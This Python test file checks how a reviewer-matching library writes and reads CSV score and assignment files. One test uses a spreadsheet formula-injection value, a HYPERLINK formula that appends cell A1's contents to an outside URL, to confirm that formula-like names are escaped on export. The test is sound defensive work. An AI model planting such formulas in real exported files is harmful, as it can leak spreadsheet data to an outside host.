"""Files of scores and assignments, as spreadsheet programs and our readers open them."""

import csv
from pathlib import Path

import numpy as np
import pytest

from specter_graph.core.errors import InputError
from specter_graph.graph.reviewing.venue_data import VenueReviewer
from specter_graph.loaders.review_records import AssignedPair, Reviewer, Submission
from specter_graph.matching.affinity.scoring import AffinityMatrix
from specter_graph.matching.io.lists import read_conflicts
from specter_graph.matching.io.score_files import read_scores, write_assigned, write_scores

FORMULA = '=HYPERLINK("https://x.org/?"&A1)'


def cells(path: Path) -> list[str]:
    with path.open(newline="") as file:
        return [cell for row in csv.reader(file) for cell in row]


def test_names_that_are_formulas_are_escaped_and_read_back(tmp_path: Path):
    submissions, reviewers = [FORMULA, "-5VpIqr"], ["@ann", "~Bob_B1"]
    scores = np.float32([[-0.5, 0.25], [1, 0]])
    matrix = AffinityMatrix(
        [Submission(each, each) for each in submissions],
        [VenueReviewer(Reviewer(each), each, each) for each in reviewers],
        scores,
    )
    assert write_scores(tmp_path / "scores.csv", matrix) == 4
    assert {f"'{FORMULA}", "'@ann", "-5VpIqr", "-0.500000"} <= {*cells(tmp_path / "scores.csv")}
    read = read_scores(tmp_path / "scores.csv", submissions, reviewers)
    np.testing.assert_array_equal(read, scores)

    pairs = [
        AssignedPair("@ann", FORMULA, -0.5),
        AssignedPair("~Bob_B1", "-5VpIqr", 0.25, locked=True),
    ]
    write_assigned(tmp_path / "assignment.csv", pairs)
    assert {f"'{FORMULA}", "'@ann", "-0.500000"} <= {*cells(tmp_path / "assignment.csv")}
    again = read_conflicts(tmp_path / "assignment.csv")
    assert [(each.reviewer, each.submission) for each in again] == [
        ("@ann", FORMULA),
        ("~Bob_B1", "-5VpIqr"),
    ]


@pytest.mark.parametrize("text", ["", "\n", "submission,reviewer,score\n"])
def test_a_file_without_scores_is_an_error(tmp_path: Path, text: str):
    (tmp_path / "scores.csv").write_text(text)
    with pytest.raises(InputError, match=r"scores\.csv has no scores"):
        read_scores(tmp_path / "scores.csv", ["1"], ["~Ann_B1"])


def test_scores_of_ids_with_semicolons_are_read_back(tmp_path: Path):
    (tmp_path / "scores.csv").write_text("a;b;c;d,~Ann_B1,0.25\n")
    read = read_scores(tmp_path / "scores.csv", ["a;b;c;d"], ["~Ann_B1"])
    np.testing.assert_array_equal(read, np.float32([[0.25]]))


def test_scores_with_semicolons_and_decimal_commas_are_read(tmp_path: Path):
    (tmp_path / "scores.csv").write_text("submission;reviewer;score\n1;~Ann_B1;0,25\n")
    read = read_scores(tmp_path / "scores.csv", ["1"], ["~Ann_B1"])
    np.testing.assert_array_equal(read, np.float32([[0.25]]))
